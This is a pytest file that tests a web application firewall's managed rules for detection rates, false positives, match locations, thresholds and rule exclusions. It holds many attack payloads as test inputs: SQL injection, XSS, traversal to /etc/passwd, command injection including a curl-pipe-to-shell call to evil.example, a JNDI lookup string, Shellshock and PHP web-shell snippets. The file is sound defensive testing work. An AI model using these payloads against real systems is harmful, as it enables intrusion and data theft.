"""Managed WAF rules: detection and false-positive rates on the attack/benign corpus, and what users rely on
(where a match is reported, excluding rules, the threshold, the categories switch)."""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from edgeplane.edge.managed import ManagedResult, ManagedRules
from edgeplane.edge.request import EdgeRequest

CORPUS = Path(__file__).parents[1] / "data" / "waf"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
RULES = ManagedRules()
JSON, FORM = "application/json", "application/x-www-form-urlencoded"


def make_request(
    path: str = "/",
    query: str = "",
    headers: dict[str, str] | None = None,
    body: str = "",
    content_type: str | None = None,
    method: str = "GET",
) -> EdgeRequest:
    raw = {"user-agent": BROWSER, **(headers or {})}
    if content_type:
        raw["content-type"] = content_type
    encoded = {k.lower().encode("latin-1"): v.encode() for k, v in raw.items()}
    return EdgeRequest(
        method, "example.com", path, query.encode(), encoded, list(encoded.items()), "203.0.113.9", body=body.encode()
    )


def from_corpus(entry: dict[str, Any]) -> EdgeRequest:
    return make_request(
        entry["path"], entry["query"], entry["headers"], entry["body"], entry["content_type"], entry["method"]
    )


def load(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (CORPUS / name).read_text(encoding="utf-8").splitlines()]


def query(value: str) -> ManagedResult:
    return RULES.inspect(make_request("/search", "q=" + quote(value, safe="")))


def test_corpus_detection_and_false_positive_rates() -> None:
    attacks, benign = load("attacks.jsonl"), load("benign.jsonl")
    assert len(attacks) >= 400 and len(benign) >= 1500
    total, caught = Counter[str](), Counter[str]()
    for entry in attacks:
        total[entry["category"]] += 1
        caught[entry["category"]] += RULES.inspect(from_corpus(entry)).blocked
    seen, flagged = Counter[str](), Counter[str]()
    for entry in benign:
        seen[entry["category"]] += 1
        flagged[entry["category"]] += RULES.inspect(from_corpus(entry)).blocked
    detection = sum(caught.values()) / len(attacks)
    false_positives = sum(flagged.values()) / len(benign)
    print("\ncategory      detected")
    for category in sorted(total):
        print(f"{category:12s} {caught[category]:4d}/{total[category]:<4d} {caught[category] / total[category]:7.1%}")
    print(f"{'overall':12s} {sum(caught.values()):4d}/{len(attacks):<4d} {detection:7.1%}")
    print("benign kind   blocked")
    for kind in sorted(seen):
        print(f"{kind:12s} {flagged[kind]:4d}/{seen[kind]:<4d} {flagged[kind] / seen[kind]:7.1%}")
    print(f"{'overall':12s} {sum(flagged.values()):4d}/{len(benign):<4d} {false_positives:7.1%}")
    assert detection >= 0.90
    assert false_positives <= 0.01
    assert all(caught[c] / total[c] >= 0.9 for c in total), "every category is detected at 90% or better"


@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("' OR '1'='1", "sqli"),
        ("1 AND 1=1", "sqli"),
        ("-1 UNION SELECT 1,2,3--", "sqli"),
        ("1' AND SLEEP(5)--", "sqli"),
        ("'; WAITFOR DELAY '0:0:5'--", "sqli"),
        ("' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--", "sqli"),
        ("' UNION SELECT CHAR(97,100,109,105,110)--", "sqli"),
        ("<script>alert(document.cookie)</script>", "xss"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("<svg/onload=alert(1)>", "xss"),
        ("javascript:alert(1)", "xss"),
        ('" autofocus onfocus="alert(1)', "xss"),
        ("{{constructor.constructor('alert(1)')()}}", "xss"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("/etc/shadow", "traversal"),
        ("php://filter/convert.base64-encode/resource=index.php", "traversal"),
        ("127.0.0.1; cat /etc/passwd", "cmdi"),
        ("$(curl -s http://evil.example/x|sh)", "cmdi"),
        ("a;cat${IFS}/etc/passwd", "cmdi"),
        ("${jndi:ldap://evil.example/a}", "rce"),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", "rce"),
        ("<?php system($_GET['cmd']); ?>", "rce"),
    ],
)
def test_payload_in_query_is_blocked_by_its_category(payload: str, category: str) -> None:
    result = query(payload)
    assert result.blocked, result
    assert any(m.category == category and m.where == "query" for m in result.matches), result


@pytest.mark.parametrize(
    ("request_", "where"),
    [
        (make_request("/api/login", body='{"user": {"name": "admin\' OR 1=1--"}}', content_type=JSON), "body"),
        (make_request("/login", body="user=x%27+or+%271%27%3D%271&pw=1", content_type=FORM), "body"),
        (make_request("/api/items/1' or '1'='1"), "path"),
        (make_request("/static/../../../etc/passwd"), "path"),
        (make_request("/", headers={"cookie": "theme=dark; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}), "cookie"),
        (make_request("/", headers={"user-agent": "() { :; }; /bin/bash -c 'id'"}), "header:user-agent"),
        (make_request("/", headers={"referer": "https://x.example/?q=%27%20union%20select%201,2--"}), "header:referer"),
        (make_request("/", headers={"x-api-version": "${jndi:ldap://evil.example/a}"}), "header:x-api-version"),
        (make_request("/", headers={"user-agent": "sqlmap/1.8.4#stable (https://sqlmap.org)"}), "header:user-agent"),
        (make_request("/", headers={"acunetix-aspect": "enabled"}), "header:acunetix-aspect"),
        (make_request("/", method="POST", headers={"transfer-encoding": "chunked", "content-length": "4"}),
         "header:transfer-encoding"),
    ],
)  # fmt: skip
def test_matches_report_the_location(request_: EdgeRequest, where: str) -> None:
    result = RULES.inspect(request_)
    assert result.blocked and result.matches[0].where == where, result


def test_multipart_fields_and_text_files_are_inspected() -> None:
    boundary = "----b0undary"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\n'
        f"<?php eval($_POST['x']); ?>\r\n--{boundary}--\r\n"
    )
    result = RULES.inspect(make_request("/upload", body=body, content_type=f"multipart/form-data; boundary={boundary}"))
    assert result.blocked and ("rce-504", "body") in {(m.rule_id, m.where) for m in result.matches}


@pytest.mark.parametrize(
    "encoded",
    [
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",  # double URL-encoding
        "1%27/**/OR/**/1=1--",  # comments instead of spaces
        "-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2",  # MySQL executable comments
        "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",  # full-width < and >
        "%26lt;script%26gt;alert(1)%26lt;/script%26gt;",  # HTML entities
        "%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3E",  # a tab entity inside javascript:
        "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",  # overlong UTF-8 slashes
        "%3Bw%27h%27o%27am%27i",  # shell quoting inside a command
    ],
)
def test_encodings_and_evasions_are_decoded(encoded: str) -> None:
    assert RULES.inspect(make_request("/search", "q=" + encoded)).blocked


@pytest.mark.parametrize(
    "text",
    [
        "How do I write a SELECT with a JOIN in postgres?",
        "explain `rm -rf` dangers",
        "What's the difference between UNION and UNION ALL? e.g. SELECT a FROM t1 UNION SELECT a FROM t2",
        "My name is Seán O'Brien; the customer's address is 12 Rue de l'Église.",
        "Use <b>bold</b> and <i>italics</i> in markdown, or a <details> block.",
        "```sql\nSELECT * FROM users WHERE name = 'O''Brien' AND status = 'active';\n```",
        '```bash\nfor f in *.log; do gzip "$f"; done && ls -la | grep log\n```',
        "Where is the hosts file? C:\\Windows\\System32\\drivers\\etc\\hosts or /etc/hosts?",
        "Is `<script async>` different from `<script defer>`?",
        "In javascript:\n\n```js\nconst x = 1;\n```",
    ],
)
def test_prompts_with_code_words_stay_below_the_threshold(text: str) -> None:
    body = json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": text}]})
    result = RULES.inspect(make_request("/v1/chat/completions", body=body, content_type=JSON))
    assert not result.blocked, result


def test_excluded_rule_is_switched_off() -> None:
    payload = "q=" + quote("' OR '1'='1")
    before = RULES.inspect(make_request("/search", payload))
    assert [m.rule_id for m in before.matches] == ["sqli-101"] and before.blocked
    after = ManagedRules(exclude=frozenset({"sqli-101"})).inspect(make_request("/search", payload))
    assert after.score == 0 and not after.blocked


def test_threshold_decides_blocked() -> None:
    request = make_request("/search", "q=" + quote("see /etc/passwd for the format"))  # one notice
    assert RULES.inspect(request).score == 2 and not RULES.inspect(request).blocked
    assert ManagedRules(threshold=2).inspect(request).blocked
    assert not ManagedRules(threshold=50).inspect(make_request("/search", "q=" + quote("' OR '1'='1"))).blocked


def test_categories_limit_the_rule_set() -> None:
    request = make_request("/search", "q=" + quote("<script>alert(1)</script>"))
    assert not ManagedRules(categories=frozenset({"sqli"})).inspect(request).matches
    assert ManagedRules(categories=frozenset({"xss"})).inspect(request).blocked


def test_scores_add_up_once_per_rule() -> None:
    result = query("<img src=x onerror=alert(1)><img src=y onerror=alert(2)>")
    assert result.score == sum(m.score for m in result.matches)
    assert len({m.rule_id for m in result.matches}) == len(result.matches)


def test_configuration_errors_name_the_fix() -> None:
    with pytest.raises(ValueError, match=r"unknown managed rule ids in exclude: \['sqli-999'\]"):
        ManagedRules(exclude=frozenset({"sqli-999"}))
    with pytest.raises(ValueError, match="valid: "):
        ManagedRules(categories=frozenset({"sql"}))
    with pytest.raises(ValueError, match="at least 1"):
        ManagedRules(threshold=0)


def test_clean_request_has_no_matches() -> None:
    result = RULES.inspect(make_request("/v1/models", "page=2&limit=50&sort=-created_at"))
    assert result == ManagedResult(0, (), False)
